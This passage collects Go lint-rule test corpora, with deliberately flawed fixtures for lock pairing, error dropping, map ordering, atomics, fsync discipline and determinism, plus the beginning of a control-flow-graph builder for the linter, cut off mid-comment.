//lint:hotpath misplaced — annotates a var, not a function: want hotpath
var notAFunction = 3
