// Corpus for the ctxhygiene rule. Loaded by lint_test.go under a
// non-main import path; a second load under goingwild/cmd/fake proves
// the package-main exemption.
package corpus

import (
	"context"
	"time"
)

// BadField stores a context in a struct, detaching cancellation from the
// call tree.
type BadField struct {
	ctx context.Context // want ctxhygiene
	n   int
}

// BadEmbedded smuggles the context in as an embedded field.
type BadEmbedded struct {
	context.Context // want ctxhygiene
}

// OKStruct holds no context.
type OKStruct struct {
	deadline time.Time
}

// BadSecondParam takes ctx after another parameter.
func BadSecondParam(n int, ctx context.Context) error { // want ctxhygiene
	return ctx.Err()
}

// BadLiteralParam trips the rule inside a function literal too.
var BadLiteralParam = func(s string, ctx context.Context) { // want ctxhygiene
	_ = ctx
}

// OKFirstParam is the required shape.
func OKFirstParam(ctx context.Context, n int) error {
	return ctx.Err()
}

// OKNoCtx takes no context at all.
func OKNoCtx(n int) int { return n + 1 }

// BadBackground manufactures an uncancellable root outside cmd/.
func BadBackground() error {
	return OKFirstParam(context.Background(), 1) // want ctxhygiene
}

// BadTODO is the same smell with a different name.
func BadTODO() error {
	return OKFirstParam(context.TODO(), 1) // want ctxhygiene
}

// AllowedBackground is the annotated escape hatch the compatibility
// wrappers use.
func AllowedBackground() error {
	//lint:allow ctxhygiene corpus fixture for the wrapper escape
	return OKFirstParam(context.Background(), 1)
}

// OKWithCancel derives from a caller-supplied context: legal.
func OKWithCancel(ctx context.Context) (context.Context, context.CancelFunc) {
	return context.WithCancel(ctx)
}
