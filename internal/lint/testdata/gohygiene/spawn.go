// Corpus for the gohygiene rule.
package corpus

import "sync"

func work(int) {}

// BadFireAndForget launches one goroutine per item with no join and no
// bound.
func BadFireAndForget(items []int) {
	for _, it := range items {
		go func() { work(it) }() // want gohygiene
	}
}

// BadNamed spawns a named function per iteration, equally unaccounted.
func BadNamed(items []int) {
	for _, it := range items {
		go work(it) // want gohygiene
	}
}

// OKWaitGroup joins through a WaitGroup.
func OKWaitGroup(items []int) {
	var wg sync.WaitGroup
	for _, it := range items {
		wg.Add(1)
		go func() {
			defer wg.Done()
			work(it)
		}()
	}
	wg.Wait()
}

// OKResultChannel joins by collecting one result per spawn.
func OKResultChannel(items []int) []int {
	ch := make(chan int)
	for _, it := range items {
		go func() { ch <- it * 2 }()
	}
	var out []int
	for range items {
		out = append(out, <-ch)
	}
	return out
}

// OKSemaphore bounds concurrency with a channel slot per goroutine.
func OKSemaphore(items []int) {
	sem := make(chan struct{}, 4)
	for _, it := range items {
		sem <- struct{}{}
		go func() {
			defer func() { <-sem }()
			work(it)
		}()
	}
}

// OKSingle is a lone goroutine outside any loop: not this rule's
// business.
func OKSingle() {
	go work(0)
}

// AllowedSpawn is suppressed.
func AllowedSpawn(items []int) {
	for _, it := range items {
		go func() { work(it) }() //lint:allow gohygiene corpus fixture
	}
}
