// Corpus for the maporder rule. Loaded by lint_test.go under the import
// path of a rendering package.
package corpus

import (
	"fmt"
	"io"
	"sort"
	"strings"
)

// BadAppend collects map keys with no sort: random row order.
func BadAppend(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k) // want maporder
	}
	return out
}

// OKAppendSorted repairs the order after the loop.
func OKAppendSorted(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// BadPrint renders lines in map order.
func BadPrint(w io.Writer, m map[string]int) {
	for k, v := range m {
		fmt.Fprintf(w, "%s=%d\n", k, v) // want maporder
	}
}

// BadBuilder assembles a report string in map order.
func BadBuilder(m map[string]int) string {
	var b strings.Builder
	for k := range m {
		b.WriteString(k) // want maporder
	}
	return b.String()
}

// OKInnerBuilder uses per-iteration scratch; nothing escapes unordered.
func OKInnerBuilder(m map[string]int) map[string]string {
	out := map[string]string{}
	for k, v := range m {
		var b strings.Builder
		for i := 0; i < v; i++ {
			b.WriteString(k)
		}
		out[k] = b.String()
	}
	return out
}

// BadConcat concatenates onto an outer string.
func BadConcat(m map[string]int) string {
	s := ""
	for k := range m {
		s += k // want maporder
	}
	return s
}

// BadArgmax: on ties the winner is whichever key the runtime visits
// first.
func BadArgmax(m map[string]int) string {
	best, bestN := "", -1
	for k, n := range m {
		if n > bestN {
			best, bestN = k, n // want maporder
		}
	}
	return best
}

// OKBucket writes keyed by the iteration variable: commutative.
func OKBucket(m map[string]int) map[string]int {
	out := map[string]int{}
	for k, v := range m {
		out[k] = v * 2
	}
	return out
}

// OKReduce accumulates a commutative numeric reduction.
func OKReduce(m map[string]int) int {
	total := 0
	for _, v := range m {
		total += v
	}
	return total
}

// AllowedAppend is suppressed.
func AllowedAppend(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k) //lint:allow maporder corpus fixture
	}
	return out
}
