// Corpus for the errdrop rule. Imports the real dnswire, zonefile,
// wildnet, and scanner packages so the callee resolution under test is
// the production one.
package corpus

import (
	"context"
	"io"
	"net/netip"
	"strings"

	"goingwild/internal/dnswire"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
	"goingwild/internal/zonefile"
)

// BadStatement drops the error (and the message) on the floor.
func BadStatement(payload []byte) {
	dnswire.Unpack(payload) // want errdrop
}

// BadBlank keeps the message but blanks the error.
func BadBlank(payload []byte) *dnswire.Message {
	m, _ := dnswire.Unpack(payload) // want errdrop
	return m
}

// BadZonefile drops a parse error.
func BadZonefile(r io.Reader) {
	zonefile.Parse(r) // want errdrop
}

// BadDefer defers a call whose error nobody will see.
func BadDefer(z *zonefile.Zone, w io.Writer) {
	defer z.Serialize(w) // want errdrop
}

// OKPropagated returns the error to the caller.
func OKPropagated(payload []byte) (*dnswire.Message, error) {
	return dnswire.Unpack(payload)
}

// OKHandled checks the error.
func OKHandled(payload []byte) bool {
	_, err := dnswire.Unpack(payload)
	return err == nil
}

// OKOtherPackage: dropped errors from unwatched packages are vet's
// problem, not this rule's.
func OKOtherPackage(r *strings.Reader) {
	io.ReadAll(r)
}

// AllowedDrop is suppressed.
func AllowedDrop(payload []byte) {
	dnswire.Unpack(payload) //lint:allow errdrop corpus fixture
}

// BadTransportSend drops the transport's send error with no
// annotation: a probe that never left the machine silently undercounts.
func BadTransportSend(ctx context.Context, tr wildnet.Transport, dst netip.Addr, wire []byte) {
	tr.Send(ctx, dst, 53, 33000, wire) // want errdrop
}

// BadAliasedSend reaches the same interface method through the
// scanner.Transport alias; resolution still lands in wildnet.
func BadAliasedSend(ctx context.Context, tr scanner.Transport, dst netip.Addr, wire []byte) {
	_ = tr.Send(ctx, dst, 53, 33000, wire) // want errdrop
}

// OKTransportSendAnnotated states the packet-loss policy explicitly.
func OKTransportSendAnnotated(ctx context.Context, tr wildnet.Transport, dst netip.Addr, wire []byte) {
	//lint:allow errdrop corpus fixture: send failures are modeled packet loss
	tr.Send(ctx, dst, 53, 33000, wire)
}

// OKTransportSendPropagated returns the send error to the caller.
func OKTransportSendPropagated(ctx context.Context, tr wildnet.Transport, dst netip.Addr, wire []byte) error {
	return tr.Send(ctx, dst, 53, 33000, wire)
}

// OKOtherWildnetFunc: only Send is watched by method; other
// error-returning wildnet calls stay vet's problem.
func OKOtherWildnetFunc(order uint) *wildnet.World {
	w, _ := wildnet.NewWorld(wildnet.DefaultConfig(order))
	return w
}
