// Corpus for the errdrop rule. Imports the real dnswire and zonefile
// packages so the callee resolution under test is the production one.
package corpus

import (
	"io"
	"strings"

	"goingwild/internal/dnswire"
	"goingwild/internal/zonefile"
)

// BadStatement drops the error (and the message) on the floor.
func BadStatement(payload []byte) {
	dnswire.Unpack(payload) // want errdrop
}

// BadBlank keeps the message but blanks the error.
func BadBlank(payload []byte) *dnswire.Message {
	m, _ := dnswire.Unpack(payload) // want errdrop
	return m
}

// BadZonefile drops a parse error.
func BadZonefile(r io.Reader) {
	zonefile.Parse(r) // want errdrop
}

// BadDefer defers a call whose error nobody will see.
func BadDefer(z *zonefile.Zone, w io.Writer) {
	defer z.Serialize(w) // want errdrop
}

// OKPropagated returns the error to the caller.
func OKPropagated(payload []byte) (*dnswire.Message, error) {
	return dnswire.Unpack(payload)
}

// OKHandled checks the error.
func OKHandled(payload []byte) bool {
	_, err := dnswire.Unpack(payload)
	return err == nil
}

// OKOtherPackage: dropped errors from unwatched packages are vet's
// problem, not this rule's.
func OKOtherPackage(r *strings.Reader) {
	io.ReadAll(r)
}

// AllowedDrop is suppressed.
func AllowedDrop(payload []byte) {
	dnswire.Unpack(payload) //lint:allow errdrop corpus fixture
}
