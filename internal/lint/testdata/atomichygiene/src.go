// Corpus for the atomichygiene rule: fields touched through sync/atomic
// must be atomic everywhere, and atomically-loaded values must not be
// stored back non-transactionally.
package corpus

import "sync/atomic"

type counters struct {
	hits  uint64
	total uint64
}

// BadMixedWrite increments hits directly while IncrHits uses atomics: the
// plain write races every atomic reader.
func BadMixedWrite(c *counters) {
	c.hits++ // want atomichygiene
}

// IncrHits is the atomic side of the mixed access.
func IncrHits(c *counters) {
	atomic.AddUint64(&c.hits, 1)
}

// BadMixedRead reads hits without the atomic load.
func BadMixedRead(c *counters) uint64 {
	return c.hits // want atomichygiene
}

// OKPlainField never goes through sync/atomic, so plain access is fine.
func OKPlainField(c *counters) uint64 {
	c.total++
	return c.total
}

// OKFreshInit writes the field before the value is shared: a freshly
// allocated struct has no concurrent observers yet.
func OKFreshInit() *counters {
	c := &counters{}
	c.hits = 0
	return c
}

// OKCompositeInit initializes via the literal itself.
func OKCompositeInit() *counters {
	return &counters{hits: 1}
}

// BadRMWFree loads, computes, stores: a concurrent Add between the load
// and the store is lost.
func BadRMWFree(c *counters) {
	v := atomic.LoadUint64(&c.hits)
	atomic.StoreUint64(&c.hits, v+1) // want atomichygiene
}

// OKAddFree uses the transactional form.
func OKAddFree(c *counters) {
	atomic.AddUint64(&c.hits, 1)
}

type typedCounters struct {
	n atomic.Uint64
}

// BadRMWTyped is the same lost update through the typed API.
func BadRMWTyped(t *typedCounters) {
	v := t.n.Load()
	t.n.Store(v * 2) // want atomichygiene
}

// OKTypedAdd and OKTypedCAS are the transactional forms.
func OKTypedAdd(t *typedCounters) {
	t.n.Add(1)
}

func OKTypedCAS(t *typedCounters) {
	for {
		v := t.n.Load()
		if t.n.CompareAndSwap(v, v*2) {
			return
		}
	}
}

// OKStoreFresh stores a value not derived from a load.
func OKStoreFresh(t *typedCounters) {
	t.n.Store(42)
}

// AllowedMix demonstrates the escape hatch for a documented
// initialization-only write.
func AllowedMix(c *counters) {
	//lint:allow atomichygiene single-writer phase before workers start
	c.hits = 7
}
