// Corpus for the lockcheck rule: path-sensitive lock/unlock pairing,
// double acquisition, and by-value lock copies.
package corpus

import "sync"

type guarded struct {
	mu sync.Mutex
	n  int
}

type rwGuarded struct {
	mu sync.RWMutex
	n  int
}

// OKDefer is the canonical shape: acquire, defer release.
func OKDefer(g *guarded) int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.n
}

// OKStraightLine releases on the only path.
func OKStraightLine(g *guarded) int {
	g.mu.Lock()
	n := g.n
	g.mu.Unlock()
	return n
}

// OKBothBranches releases on every path out.
func OKBothBranches(g *guarded, fast bool) int {
	g.mu.Lock()
	if fast {
		n := g.n
		g.mu.Unlock()
		return n
	}
	n := g.n * 2
	g.mu.Unlock()
	return n
}

// BadLeakEarlyReturn holds the lock on the error path.
func BadLeakEarlyReturn(g *guarded, bail bool) int {
	g.mu.Lock() // want lockcheck: not released on the bail path
	if bail {
		return 0
	}
	n := g.n
	g.mu.Unlock()
	return n
}

// BadLeakAllPaths never releases.
func BadLeakAllPaths(g *guarded) {
	g.mu.Lock() // want lockcheck
	g.n++
}

// BadDoubleLock re-acquires without releasing.
func BadDoubleLock(g *guarded) {
	g.mu.Lock()
	g.mu.Lock() // want lockcheck
	g.n++
	g.mu.Unlock()
	g.mu.Unlock()
}

// BadDoubleUnlock releases twice on one path.
func BadDoubleUnlock(g *guarded) {
	g.mu.Lock()
	g.n++
	g.mu.Unlock()
	g.mu.Unlock() // want lockcheck
}

// BadUnlockAfterDefer releases explicitly on top of the deferred release.
func BadUnlockAfterDefer(g *guarded) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.n++
	g.mu.Unlock() // want lockcheck: the defer fires too
}

// OKLoopReacquire releases at the bottom of each iteration, so the
// re-acquisition at the top is balanced.
func OKLoopReacquire(g *guarded, rounds int) {
	for i := 0; i < rounds; i++ {
		g.mu.Lock()
		g.n++
		g.mu.Unlock()
	}
}

// BadLoopLeak acquires each iteration and releases only after the loop.
func BadLoopLeak(g *guarded, rounds int) {
	for i := 0; i < rounds; i++ {
		g.mu.Lock() // want lockcheck: second iteration re-locks a held lock
		g.n++
	}
	g.mu.Unlock()
}

// OKRWReader pairs RLock with deferred RUnlock.
func OKRWReader(g *rwGuarded) int {
	g.mu.RLock()
	defer g.mu.RUnlock()
	return g.n
}

// BadRWLeak holds the read lock on the early return.
func BadRWLeak(g *rwGuarded, bail bool) int {
	g.mu.RLock() // want lockcheck
	if bail {
		return 0
	}
	n := g.n
	g.mu.RUnlock()
	return n
}

// OKTwoLocks tracks two locks independently.
func OKTwoLocks(a, b *guarded) {
	a.mu.Lock()
	defer a.mu.Unlock()
	b.mu.Lock()
	defer b.mu.Unlock()
	a.n, b.n = b.n, a.n
}

// BadCopyParam receives the lock-bearing struct by value.
func BadCopyParam(g guarded) int { // want lockcheck: by-value parameter
	return g.n
}

// BadCopyAssign forks the lock state into a local copy.
func BadCopyAssign(g *guarded) int {
	local := *g // want lockcheck: assignment copies the mutex
	return local.n
}

// BadCopyRange copies each element's lock.
func BadCopyRange(gs []guarded) int {
	total := 0
	for _, g := range gs { // want lockcheck: range copies the mutex
		total += g.n
	}
	return total
}

// OKPointerRange takes pointers instead.
func OKPointerRange(gs []*guarded) int {
	total := 0
	for _, g := range gs {
		total += g.n
	}
	return total
}

// AllowedLeak demonstrates the escape hatch.
func AllowedLeak(g *guarded) {
	//lint:allow lockcheck handoff: the unlock happens in the paired release helper
	g.mu.Lock()
	g.n++
}

// stale: this allow covers a line that never trips the rule.
func StaleAllowDemo(g *guarded) int {
	//lint:allow lockcheck nothing wrong here, the comment itself is the defect
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.n
}
