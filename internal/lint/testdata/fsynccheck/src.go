// Corpus for the fsynccheck rule: sync-before-rename discipline and
// checked (*os.File).Close errors, scoped to the durable-store packages.
package corpus

import (
	"io"
	"os"
)

// OKSaveShape is the canonical atomic-publish sequence: write, sync,
// checked close, rename. The early return on err filters the unsynced
// Write-failure path through a value test the lattice cannot see; the
// may-analysis stays quiet because a synced path reaches the rename.
func OKSaveShape(dir, dst string, blob []byte) error {
	f, err := os.CreateTemp(dir, ".tmp-*")
	if err != nil {
		return err
	}
	tmp := f.Name()
	if _, err = f.Write(blob); err == nil {
		err = f.Sync()
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		os.Remove(tmp)
		return err
	}
	return os.Rename(tmp, dst)
}

// BadRenameNoSync publishes bytes the kernel may still be buffering.
func BadRenameNoSync(dir, dst string, blob []byte) error {
	f, err := os.CreateTemp(dir, ".tmp-*")
	if err != nil {
		return err
	}
	tmp := f.Name()
	_, werr := f.Write(blob)
	if cerr := f.Close(); werr == nil {
		werr = cerr
	}
	if werr != nil {
		return werr
	}
	return os.Rename(tmp, dst) // want fsynccheck: no Sync on any path
}

// BadSyncAfterRename flushes only after the name is already public.
func BadSyncAfterRename(f *os.File, tmp, dst string) error {
	if err := os.Rename(tmp, dst); err != nil { // want fsynccheck
		return err
	}
	return f.Sync()
}

// OKSyncedEveryPath syncs unconditionally before the rename.
func OKSyncedEveryPath(f *os.File, tmp, dst string) error {
	if err := f.Sync(); err != nil {
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	return os.Rename(tmp, dst)
}

// OKSyncInLoopBody syncs inside the loop that also renames; the
// back-edge carries the synced state.
func OKSyncInLoopBody(fs []*os.File, names []string) error {
	for i, f := range fs {
		if err := f.Sync(); err != nil {
			return err
		}
		if err := os.Rename(names[i]+".tmp", names[i]); err != nil {
			return err
		}
	}
	return nil
}

// AllowedRenameOnly moves a file some other process made durable; the
// allow documents why no sync is needed here.
func AllowedRenameOnly(tmp, dst string) error {
	//lint:allow fsynccheck the payload was fsynced by the producer; this only renames
	return os.Rename(tmp, dst)
}

// BadBareClose drops the error that reports deferred write-back
// failures.
func BadBareClose(f *os.File, blob []byte) {
	f.Write(blob)
	f.Close() // want fsynccheck: discarded close error
}

// BadDeferClose discards the error just as thoroughly, one line up.
func BadDeferClose(f *os.File, blob []byte) error {
	defer f.Close() // want fsynccheck
	_, err := f.Write(blob)
	return err
}

// OKCheckedClose observes the error.
func OKCheckedClose(f *os.File) error {
	if err := f.Close(); err != nil {
		return err
	}
	return nil
}

// OKReturnedClose propagates the error.
func OKReturnedClose(f *os.File) error {
	return f.Close()
}

// AllowedReadOnlyClose is the directory-handle shape: nothing buffered,
// nothing to lose.
func AllowedReadOnlyClose(dir string) {
	d, err := os.Open(dir)
	if err != nil {
		return
	}
	d.Sync()
	//lint:allow fsynccheck read-only directory handle; nothing buffered to lose
	d.Close()
}

// notAFile is a closer that is not an *os.File; the rule must not
// confuse it with one.
type notAFile struct{ rc io.ReadCloser }

func (n *notAFile) Close() error { return n.rc.Close() }

// OKOtherCloser closes a non-os.File; out of scope.
func OKOtherCloser(n *notAFile) {
	n.Close()
}
