// Corpus for the determinism rule. Loaded by lint_test.go under the
// import path of a seed-deterministic package.
package corpus

import (
	"math/rand"
	"time"
)

// BadNow reads the wall clock.
func BadNow() time.Time {
	return time.Now() // want determinism
}

// BadSince reads the wall clock through Since.
func BadSince(t0 time.Time) time.Duration {
	return time.Since(t0) // want determinism
}

// BadGlobalRand draws from the process-seeded global source.
func BadGlobalRand() int {
	return rand.Intn(10) // want determinism
}

// OKSeeded uses an explicitly-seeded generator: legal.
func OKSeeded(seed int64) int {
	return rand.New(rand.NewSource(seed)).Intn(10)
}

// OKTypes only mentions time/rand types, not state.
func OKTypes(r *rand.Rand, d time.Duration) time.Duration {
	return d * time.Duration(r.Intn(3)+1)
}

// AllowedNow is suppressed with a well-formed allow comment.
func AllowedNow() time.Time {
	return time.Now() //lint:allow determinism corpus fixture for the escape hatch
}

// AllowedAbove is suppressed from the line above.
func AllowedAbove() time.Time {
	//lint:allow determinism corpus fixture, comment-above form
	return time.Now()
}

// MalformedAllow has no reason: the comment itself is a finding and does
// not suppress.
func MalformedAllow() time.Time {
	//lint:allow determinism
	return time.Now() // want determinism + allow
}
