// Corpus for the taintflow rule: values derived from map iteration must
// not reach an output sink on any path without a sort in between. The
// corpus impersonates a Rendering package; maporder findings are filtered
// out by the per-rule test harness so this golden isolates the
// flow-sensitive rule.
package corpus

import (
	"fmt"
	"sort"
	"strings"
)

// BadDirectPrint prints the key inside the loop: output in map order.
func BadDirectPrint(m map[string]int) {
	for k := range m {
		fmt.Println(k) // want taintflow
	}
}

// BadUnsortedCollect prints the collected (unsorted) keys.
func BadUnsortedCollect(m map[string]int) {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	fmt.Println(keys) // want taintflow
}

// OKSortedCollect sorts before printing: the canonical clean shape.
func OKSortedCollect(m map[string]int) {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	fmt.Println(keys)
}

// BadSortOnOneBranch leaves the fast path unsorted: the sink is tainted
// on some path, which is exactly what the dataflow join catches.
func BadSortOnOneBranch(m map[string]int, fast bool) {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	if !fast {
		sort.Strings(keys)
	}
	fmt.Println(keys) // want taintflow
}

// OKSortThenFormat freezes the order only after sorting, even through
// Sprintf (formatting propagates taint, it is not a sink).
func OKSortThenFormat(m map[string]int) string {
	var lines []string
	for k, v := range m {
		lines = append(lines, fmt.Sprintf("%s=%d", k, v))
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

// unsortedKeys is the cross-function half: it returns map-iteration-
// derived data without sorting.
func unsortedKeys(m map[string]int) []string {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	return keys
}

// sortedKeys sorts before returning, so its callers are clean.
func sortedKeys(m map[string]int) []string {
	keys := unsortedKeys(m)
	sort.Strings(keys)
	return keys
}

// BadCrossFunction prints a helper's unsorted result: the summary carries
// the taint across the call.
func BadCrossFunction(m map[string]int) {
	fmt.Println(unsortedKeys(m)) // want taintflow
}

// OKCrossFunction uses the sorting helper.
func OKCrossFunction(m map[string]int) {
	fmt.Println(sortedKeys(m))
}

// OKCallerSorts repairs the helper's order itself.
func OKCallerSorts(m map[string]int) {
	keys := unsortedKeys(m)
	sort.Strings(keys)
	fmt.Println(keys)
}

// visit is the callback half: it hands map-iteration-derived values to
// its callback, so closures passed in receive tainted arguments.
func visit(m map[string]int, fn func(string, int)) {
	for k, v := range m {
		fn(k, v)
	}
}

// BadCallbackCollect collects through the callback and prints unsorted.
func BadCallbackCollect(m map[string]int) {
	var keys []string
	visit(m, func(k string, _ int) {
		keys = append(keys, k)
	})
	fmt.Println(keys) // want taintflow
}

// OKCallbackCollect sorts what the callback collected.
func OKCallbackCollect(m map[string]int) {
	var keys []string
	visit(m, func(k string, _ int) {
		keys = append(keys, k)
	})
	sort.Strings(keys)
	fmt.Println(keys)
}

// BadCallbackSink prints straight from the callback body.
func BadCallbackSink(m map[string]int) {
	visit(m, func(k string, _ int) {
		fmt.Println(k) // want taintflow
	})
}

// OKOverwriteKills reassigns the variable with clean data before the
// sink: the strong update kills the taint.
func OKOverwriteKills(m map[string]int) {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	keys = []string{"fixed"}
	fmt.Println(keys)
}

// AllowedUnsorted documents a deliberately order-free diagnostic dump.
func AllowedUnsorted(m map[string]int) {
	for k := range m {
		//lint:allow taintflow debug dump, order is irrelevant and documented
		fmt.Println(k)
	}
}
