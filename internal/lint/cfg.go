package lint

import (
	"go/ast"
)

// This file is the control-flow half of the flow-sensitive analysis core.
// The original six rules are single-statement pattern matchers; the bug
// classes the sharded collectors are most exposed to — a missed Unlock on
// an early return, an allocation on one arm of a branch, a map-ordered
// value that is sorted on one path but not the other — only exist across
// branches. A CFG makes "on all paths" and "on some path" answerable.
//
// The builder lowers one function body to basic blocks. Compound
// statements are flattened: a block never contains a statement that owns
// nested blocks of its own (those live in successor blocks); it contains
// simple statements and the evaluated fragments of compound ones (an if
// condition, a switch tag, a range header). Analyzers therefore see every
// node exactly once, in execution order, by walking Blocks in order and
// each block's Nodes in order.

// Block is one basic block: a maximal straight-line node sequence with a
// single entry and a set of successor edges.
type Block struct {
	// Index is the block's creation order, which is also a valid
	// iteration order for deterministic output.
	Index int
	// Nodes holds, in execution order: simple statements (assignments,
	// calls, sends, defers, returns, ...) and the evaluated fragments of
	// compound statements (an if/for condition expression, a switch tag,
	// a case-clause match expression, a type-switch assign). A
	// *ast.RangeStmt appears as the loop-header node of its own block;
	// consumers must not descend into its Body (which lives in successor
	// blocks) — walkBlockNode does this correctly.
	Nodes []ast.Node
	// Succs are the control-flow successors in creation order.
	Succs []*Block
}

// CFG is the control-flow graph of one function body.
type CFG struct {
	Entry *Block
	// Exit is the single synthetic exit block: every return, every panic
	// with no recover in sight, and the body's fall-off-the-end all lead
	// here. Deferred calls conceptually run on entry to Exit.
	Exit   *Block
	Blocks []*Block
	// Defers lists every defer statement in the body, in source order.
	// Whether one has executed on a given path is a dataflow question
	// (the DeferStmt node appears in its block); Defers exists so
	// analyzers can enumerate what might run at Exit.
	Defers []*ast.DeferStmt
}

// Reachable returns the set of blocks reachable from Entry. Statements in
// unreachable blocks exist in the graph (dead code after a return still
// parses) but lie on no path, so path-sensitive rules skip them.
func (g *CFG) Reachable() map[*Block]bool {
	seen := map[*Block]bool{}
	var visit func(b *Block)
	visit = func(b *Block) {
		if seen[b] {
			return
		}
		seen[b] = true
		for _, s := range b.Succs {
			visit(s)
		}
	}
	visit(g.Entry)
	return seen
}

// BuildCFG lowers body to basic blocks. A nil body (a declared but
// externally-implemented function) yields a two-block graph with an
// entry→exit edge.
func BuildCFG(body *ast.BlockStmt) *CFG {
	b := &cfgBuilder{cfg: &CFG{}}
	b.cfg.Entry = b.newBlock()
	b.cfg.Exit = b.newBlock()
	b.cur = b.cfg.Entry
	if body != nil {
		b.stmtList(body.List)
	}
	b.edgeTo(b.cfg.Exit)
	b.patchGotos()
	return b.cfg
}

// loopFrame records the jump targets one enclosing loop (or switch/select,
// for break) establishes.
type loopFrame struct {
	label       string // of the enclosing LabeledStmt, "" if none
	breakTarget *Block
	contTarget  *Block // nil for switch/select frames
	isLoop      bool
}

type pendingGoto struct {
	from  *Block
	label string
}

type cfgBuilder struct {
	cfg    *CFG
	cur    *Block // nil after a terminator; next stmt starts an unreachable block
	frames []loopFrame
	// label pending for the next loop/switch statement (from LabeledStmt).
	pendingLabel string
	labels       map[string]*Block
	gotos        []pendingGoto
	// fallTargets tracks the next-clause block for fallthrough,
	// innermost switch last.
	fallTargets []*Block
}

func (b *cfgBuilder) newBlock() *Block {
	blk := &Block{Index: len(b.cfg.Blocks)}
	b.cfg.Blocks = append(b.cfg.Blocks, blk)
	return blk
}

// block returns the current block, materializing an unreachable one after
// a terminator so dead statements still get graph nodes.
func (b *cfgBuilder) block() *Block {
	if b.cur == nil {
		b.cur = b.newBlock()
	}
	return b.cur
}

func (b *cfgBuilder) add(n ast.Node) {
	if n == nil {
		return
	}
	blk := b.block()
	blk.Nodes = append(blk.Nodes, n)
}

// edgeTo links the current block to dst and leaves cur untouched.
func (b *cfgBuilder) edgeTo(dst *Block) {
	if b.cur == nil {
		return
	}
	for _, s := range b.cur.Succs {
		if s == dst {
			return
		}
	}
	b.cur.Succs = append(b.cur.Succs, dst)
}

// jump links the current block to dst and terminates it.
func (b *cfgBuilder) jump(dst *Block) {
	b.edgeTo(dst)
	b.cur = nil
}

func (b *cfgBuilder) stmtList(list []ast.Stmt) {
	for _, s := range list {
		b.stmt(s)
	}
}

func (b *cfgBuilder) stmt(s ast.Stmt) {
	switch s := s.(type) {
	case *ast.BlockStmt:
		b.stmtList(s.List)

	case *ast.LabeledStmt:
		// The label is a goto target and names the next loop/switch for
		// labeled break/continue.
		target := b.newBlock()
		b.jump(target)
		b.cur = target
		if b.labels == nil {
			b.labels = map[string]*Block{}
		}
		b.labels[s.Label.Name] = target
		b.pendingLabel = s.Label.Name
		b.stmt(s.Stmt)
		b.pendingLabel = ""

	case *ast.IfStmt:
		if s.Init != nil {
			b.stmt(s.Init)
		}
		b.add(s.Cond)
		condBlk := b.block()
		after := b.newBlock()
		thenBlk := b.newBlock()
		condBlk.Succs = append(condBlk.Succs, thenBlk)
		b.cur = thenBlk
		b.stmt(s.Body)
		b.jump(after)
		if s.Else != nil {
			elseBlk := b.newBlock()
			condBlk.Succs = append(condBlk.Succs, elseBlk)
			b.cur = elseBlk
			b.stmt(s.Else)
			b.jump(after)
		} else {
			condBlk.Succs = append(condBlk.Succs, after)
		}
		b.cur = after

	case *ast.ForStmt:
		label := b.takeLabel()
		if s.Init != nil {
			b.stmt(s.Init)
		}
		head := b.newBlock()
		b.jump(head)
		b.cur = head
		if s.Cond != nil {
			b.add(s.Cond)
		}
		after := b.newBlock()
		body := b.newBlock()
		head.Succs = append(head.Succs, body)
		if s.Cond != nil {
			head.Succs = append(head.Succs, after)
		}
		// continue re-evaluates Post then the condition.
		contTarget := head
		var post *Block
		if s.Post != nil {
			post = b.newBlock()
			contTarget = post
		}
		b.frames = append(b.frames, loopFrame{label: label, breakTarget: after, contTarget: contTarget, isLoop: true})
		b.cur = body
		b.stmt(s.Body)
		b.frames = b.frames[:len(b.frames)-1]
		if post != nil {
			b.jump(post)
			b.cur = post
			b.stmt(s.Post)
			b.jump(head)
		} else {
			b.jump(head)
		}
		b.cur = after

	case *ast.RangeStmt:
		label := b.takeLabel()
		head := b.newBlock()
		b.jump(head)
		b.cur = head
		// The RangeStmt node itself is the loop header: analyzers read
		// Key/Value/X off it (walkBlockNode never enters Body).
		b.add(s)
		after := b.newBlock()
		body := b.newBlock()
		head.Succs = append(head.Succs, body, after)
		b.frames = append(b.frames, loopFrame{label: label, breakTarget: after, contTarget: head, isLoop: true})
		b.cur = body
		b.stmt(s.Body)
		b.frames = b.frames[:len(b.frames)-1]
		b.jump(head)
		b.cur = after

	case *ast.SwitchStmt:
		label := b.takeLabel()
		if s.Init != nil {
			b.stmt(s.Init)
		}
		if s.Tag != nil {
			b.add(s.Tag)
		}
		b.switchClauses(label, s.Body.List, func(c *ast.CaseClause) ([]ast.Node, []ast.Stmt, bool) {
			nodes := make([]ast.Node, 0, len(c.List))
			for _, e := range c.List {
				nodes = append(nodes, e)
			}
			return nodes, c.Body, c.List == nil
		})

	case *ast.TypeSwitchStmt:
		label := b.takeLabel()
		if s.Init != nil {
			b.stmt(s.Init)
		}
		b.add(s.Assign)
		b.switchClauses(label, s.Body.List, func(c *ast.CaseClause) ([]ast.Node, []ast.Stmt, bool) {
			nodes := make([]ast.Node, 0, len(c.List))
			for _, e := range c.List {
				nodes = append(nodes, e)
			}
			return nodes, c.Body, c.List == nil
		})

	case *ast.SelectStmt:
		label := b.takeLabel()
		head := b.block()
		after := b.newBlock()
		b.frames = append(b.frames, loopFrame{label: label, breakTarget: after})
		hasDefault := false
		for _, cl := range s.Body.List {
			comm := cl.(*ast.CommClause)
			if comm.Comm == nil {
				hasDefault = true
			}
			clause := b.newBlock()
			head.Succs = append(head.Succs, clause)
			b.cur = clause
			if comm.Comm != nil {
				b.stmt(comm.Comm)
			}
			b.stmtList(comm.Body)
			b.jump(after)
		}
		b.frames = b.frames[:len(b.frames)-1]
		// A select with no default blocks until a case fires; with no
